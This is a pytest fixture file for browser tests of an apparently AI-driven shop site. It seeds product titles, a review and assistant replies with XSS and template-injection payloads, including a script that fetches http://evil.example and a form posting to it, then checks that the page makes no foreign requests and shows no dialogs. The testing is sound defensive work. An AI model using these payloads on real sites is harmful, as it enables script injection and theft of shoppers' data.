"""The real application over tiny real stores, and a real browser."""

import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from dataclasses import dataclass
from html import escape
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
    "--disable-background-networking", "--no-first-run",
]  # fmt: skip
PASSWORD = "the agents' password"
CANARY_MARGIN = "0.7391582643"  # long: no random id or duration holds it by chance
"""Of every product of the hostile store; nothing that a shopper gets may hold it."""
EVIL = "http://evil.example"
HOSTILE = {
    "hostile-script": f"<script>fetch('{EVIL}/s')</script> tent",
    "hostile-image": f"<img src={EVIL}/i.png onerror=alert(1)> tent",
    "hostile-form": f'<form action="{EVIL}/f"><input name=p><button>Pay</button></form> tent',
    "hostile-markdown": f"![p]({EVIL}/m.png) [win](javascript:alert(1)) tent",
    "hostile-template": "${alert(2)} {{7*7}} {{constructor.constructor('alert(3)')()}} tent",
    "hostile-overlay": f'"><svg onload=alert(4)><a href="{EVIL}" style="inset:0">x</a> tent',
}


@dataclass(frozen=True)
class Site:
    """One running application."""

    url: str
    log: Path


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def serve(stores, folder, **environment):
    """Start the application; yields it when it answers."""
    port, log = free_port(), folder / "app.log"
    settings = {
        "PORT": str(port),
        "STORE": ",".join(map(str, stores)),
        "LLM": "none",
        "SESSIONS": f"sqlite:///{folder / 'sessions.db'}",
        **environment,
    }
    with log.open("w") as out:
        process = subprocess.Popen(
            [sys.executable, "app.py"],
            cwd=ROOT,
            env={**os.environ, **settings},
            stdout=out,
            stderr=out,
        )
    try:
        wait_for(f"http://127.0.0.1:{port}/healthz", process, log)
        yield Site(url=f"http://127.0.0.1:{port}", log=log)
    finally:
        process.terminate()
        process.wait(timeout=20)


def wait_for(url, process, log):
    for _ in range(240):
        if process.poll() is not None:
            raise RuntimeError(f"the application stopped:\n{log.read_text()[-3000:]}")
        try:
            urllib.request.urlopen(url, timeout=2)
            return
        except (urllib.error.URLError, OSError):
            time.sleep(0.25)
    raise RuntimeError(f"the application does not answer:\n{log.read_text()[-3000:]}")


@pytest.fixture(scope="session")
def hostile_store(tmp_path_factory, tiny_files, tiny_config):
    """Return the tiny store with products, a review and a shopper that attack the screen."""
    from retrieval.build import build_store

    folder = tmp_path_factory.mktemp("hostile")
    products, reviews = folder / "products.jsonl", folder / "reviews.jsonl"
    rows = [
        {
            # Import strips markup; what is escaped once arrives as the characters themselves.
            "product_id": product_id, "title": escape(title), "description": title, "brand": title,
            "category": ["Outdoor", "Camping", "Tents"], "price": 99.0, "currency": "EUR",
            "stock": 9, "rating": 4.0, "rating_count": 3,
            "attributes": {"material": title[:80]},
        }
        for product_id, title in HOSTILE.items()
    ]  # fmt: skip
    attack = HOSTILE["hostile-script"]
    review = {
        "review_id": "hostile-review", "product_id": "hostile-script", "rating": 5,
        "text": f"Very good and dry tent, {attack} and I would buy it again tomorrow.",
    }  # fmt: skip
    rows += [json.loads(x) for x in tiny_files["products"].read_text("utf-8").splitlines()]
    margin = {"margin": float(CANARY_MARGIN)}
    products.write_text("".join(json.dumps({**row, **margin}) + "\n" for row in rows), "utf-8")
    text = tiny_files["reviews"].read_text("utf-8") + json.dumps(review) + "\n"
    reviews.write_text(text, "utf-8")
    shop = tiny_config.shop.model_copy(update={"name": "hostile"})
    config = tiny_config.model_copy(update={"shop": shop})
    files = {**tiny_files, "products": products, "reviews": reviews}
    out = folder / "store"
    build_store(**files, out=out, config=config, device="cpu", progress=False)
    return out


@pytest.fixture(scope="session")
def site(tmp_path_factory, tiny_store):
    """The application with one shop and an agents' page."""
    folder = tmp_path_factory.mktemp("site")
    yield from serve([tiny_store], folder, AGENT_PASSWORD=PASSWORD)


@pytest.fixture(scope="session")
def two_shops(tmp_path_factory, tiny_store, hostile_store):
    """The application with two shops, one of them hostile, and no agents' page."""
    folder = tmp_path_factory.mktemp("two")
    yield from serve([tiny_store, hostile_store], folder, AGENT_PASSWORD="")


@pytest.fixture(scope="session")
def hostile_site(tmp_path_factory):
    """The screens over a service whose every text is an attack, in this process."""
    import uvicorn

    import app
    from tests.browser.hostile import HostileAssistant

    port = free_port()
    built = app.build_app(app.read_settings({"PORT": str(port)}), [HostileAssistant(HOSTILE)])
    server = uvicorn.Server(uvicorn.Config(built, port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    yield Site(url=f"http://127.0.0.1:{port}", log=tmp_path_factory.mktemp("hostile") / "none")
    server.should_exit = True
    thread.join(timeout=10)


@pytest.fixture(scope="session")
def chromium():
    playwright = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM}; set CHROMIUM")
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


class Watch:
    """Everything a page did that it should not."""

    def __init__(self, page):
        self.requests, self.dialogs, self.problems = [], [], []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: self.problems.append(str(error)))
        page.on("console", self._console)

    def _console(self, message):
        if message.type in {"error", "warning"}:
            self.problems.append(message.text)

    def foreign(self, site):
        return [url for url in self.requests if not re.match(rf"({site.url}/|data:|blob:)", url)]


@pytest.fixture
def open_page(chromium):
    """Return a function that opens a fresh visitor's page and waits for the message box."""
    contexts = []

    def open_(url, *, width=1366, height=768, wait="#say", **options):
        context = chromium.new_context(viewport={"width": width, "height": height}, **options)
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.watch = Watch(page)
        page.goto(url)
        page.wait_for_selector(wait)
        return page

    yield open_
    for context in contexts:
        context.close()


def idle(page):
    """Wait until the reply is complete."""
    page.wait_for_function("!document.querySelector('[data-stage] > .busy')")


def ask(page, text):
    """Say something by keyboard and wait for the whole reply."""
    page.fill("#say", text)
    page.press("#say", "Enter")
    page.wait_for_selector(".turn:last-child .said")
    idle(page)
    return page.locator(".turn").last
